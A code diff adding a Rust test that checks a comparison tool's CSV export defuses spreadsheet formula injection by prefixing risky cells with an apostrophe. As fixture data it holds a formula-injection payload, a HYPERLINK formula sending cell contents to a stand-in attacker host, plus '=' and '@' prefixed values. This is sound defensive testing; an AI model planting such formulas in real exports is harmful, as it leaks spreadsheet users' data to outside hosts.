@@ -864,3 +864,45 @@ fn a_comparison_saved_by_another_process_is_noticed() {
     assert_ne!(v1, v0, "another connection's commit");
     assert_eq!(app.others_version().unwrap(), v1, "no change since");
 }
+
+#[test]
+fn a_csv_export_never_hands_a_spreadsheet_a_formula() {
+    let store = Store::open_in_memory().unwrap();
+    let c = store
+        .create_comparison(
+            &NewComparison {
+                prompt: "=1+1".into(),
+                system: None,
+                parent_id: None,
+                slots: vec![NewSlot {
+                    provider: "openrouter".into(),
+                    model: "@evil/model".into(),
+                    ..Default::default()
+                }],
+            },
+            1_790_000_000_000,
+        )
+        .unwrap();
+    let mut s = c.slots[0].clone();
+    s.status = SlotStatus::Done;
+    s.text = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")".into();
+    store
+        .finish_slot(&s, None, (None, None), 1_790_000_001_000, None)
+        .unwrap();
+    let csv = export::to_csv(&store.get_comparison(&c.id).unwrap());
+    let mut r = csv::Reader::from_reader(csv.as_bytes());
+    let header = r.headers().unwrap().clone();
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let row = r.records().next().unwrap().unwrap();
+    assert_eq!(&row[col("title")], "'=1+1");
+    assert_eq!(&row[col("model")], "'@evil/model");
+    assert_eq!(
+        &row[col("text")],
+        "'=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")"
+    );
+    // Numbers and plain text are untouched.
+    assert_eq!(&row[col("slot")], "0");
+    assert_eq!(export::spreadsheet_safe("-0.25"), "-0.25");
+    assert_eq!(export::spreadsheet_safe("- a list item"), "'- a list item");
+    assert_eq!(export::spreadsheet_safe("plain"), "plain");
+}
